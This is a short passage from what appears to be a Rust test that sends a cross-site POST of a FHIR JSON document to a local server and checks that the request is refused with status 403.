    let r = request(&open().addr, "POST", path, &[("Content-Type", "application/fhir+json"), ("Sec-Fetch-Site", "cross-site")], doc.as_bytes());
    assert_eq!(r.status, 403, "{}", r.body);
}
